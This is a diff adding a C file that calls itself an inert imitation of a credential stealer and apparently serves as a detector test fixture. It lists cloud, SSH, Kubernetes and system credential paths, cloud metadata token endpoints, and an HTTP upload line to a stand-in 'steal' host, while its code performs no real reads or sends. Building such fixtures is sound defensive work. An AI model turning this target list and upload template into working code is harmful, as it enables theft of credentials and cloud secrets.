@@ -1,0 +1,7 @@
+/* Inert imitation of a compiled credential collector: paths, metadata addresses, upload line. It opens and sends nothing. */
+#include "inert.h"
+TABLE(paths, "/root/.aws/credentials", "/root/.aws/config", "/root/.config/gcloud/credentials.db", "/root/.config/gcloud/application_default_credentials.json", "/root/.azure/accessTokens.json", "/root/.docker/config.json", "/root/.kube/config",
+    "/root/.ssh/id_rsa", "/root/.git-credentials", "/root/.netrc", "/root/.s3cfg", "/root/.boto", "/root/.passwd-s3fs", "/etc/davfs2/secrets", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/%d/environ", "/root/.pgpass", "/root/.npmrc", "/root/.bash_history", "/etc/shadow")
+TABLE(lines, "http://169.254.169.254/latest/meta-data/iam/security-credentials/%s", "http://169.254.170.2%s", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "Metadata-Flavor: Google",
+    "POST /in.php HTTP/1.1\r\nHost: {{label:steal}}.{{top:steal}}\r\nContent-Type: multipart/form-data; boundary=%s\r\n", "Content-Disposition: form-data; name=\"creds\"; filename=\"%s.tgz\"", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "stealer finished, %d files")
+int main(int argc, char **argv) { INERT; char line[256]; tell(paths); tell(lines); for (int i = 0; paths[i]; i++) { int f = open("", O_RDONLY); read(nowhere, line, 0); send(nowhere, line, 0, 0); close(f); } return connect(nowhere, 0, 0); }
